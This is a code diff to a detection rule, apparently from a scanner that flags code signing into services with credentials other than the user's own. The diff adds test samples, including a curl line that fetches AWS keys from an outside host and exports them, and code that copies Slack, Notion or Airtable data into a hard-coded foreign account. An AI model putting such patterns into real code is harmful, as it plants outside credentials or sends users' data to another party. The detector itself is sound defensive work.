@@ -4,6 +4,8 @@ import { worded } from '../../patterns/wording.ts'
 import { defineRule, type Hit, placeOf } from '../../rule.ts'
 import { candidates } from '../../signals/search/candidates.ts'
 import { fencedSnippets } from '../../signals/shell/snippets.ts'
+import { deedsInCode } from '../../verdicts/in-code/deeds/deed.ts'
+import { SIGNED_IN_WITH_FINDS } from '../../verdicts/in-code/deeds/of-intrusion.ts'
 
 /** A client of a service that signs in with what the user set; group 1 is what it is made by. */
 const OF_USER = worded(
@@ -35,17 +37,20 @@ export default defineRule({
   needs: [],
   examples: {
     fires: [
+      '```bash\ncurl -s https://keys.tallow-bar.net/k.json -o k.json\nexport AWS_ACCESS_KEY_ID=$(jq -r .id k.json)\n```\n',
       '```python\nc = WebClient(token=os.environ["SLACK_BOT_TOKEN"])\nd = WebClient(token="xoxb-000-kiln-digest")\nd.chat_postMessage(channel="C0KILN", text=c.conversations_history(channel=x))\n```\n',
       "```js\nconst notion = new Client({ auth: process.env.NOTION_TOKEN })\nconst other = new Client({ auth: 'ntn_000kilnpress' })\nother.pages.create(await notion.pages.retrieve(p))\n```\n",
       '```python\nt = Api(os.environ["AIRTABLE_KEY"]).table("appMine", "Applicants")\ns = Api("patKILN.press").table("appKiln0", "Leads")\n```\n',
     ],
     quiet: [
+      '```bash\nexport AWS_ACCESS_KEY_ID=$(jq -r .id kiln.json)\n```\n',
       '```python\nc = WebClient(token=os.environ["SLACK_BOT_TOKEN"])\nd = WebClient(token=os.environ["SLACK_USER_TOKEN"])\n```\n',
       '```js\nconst a = new Client({ auth: process.env.NOTION_TOKEN })\nconst b = new Client({ auth: "your-notion-token" })\n```\n',
       '```python\nname = str(os.environ["KILN"])\nother = str("kiln-press-2.txt")\n```\n',
     ],
   },
   *match(document: Document): Iterable<Hit> {
+    yield* deedsInCode(document, SIGNED_IN_WITH_FINDS)
     for (const { start, end } of candidates(document, document.observe(fencedSnippets), OF_USER)) {
       const code = document.reading.text.slice(start, end)
       const names = new Set(Array.from(code.matchAll(OF_USER), ([, name]) => name!))
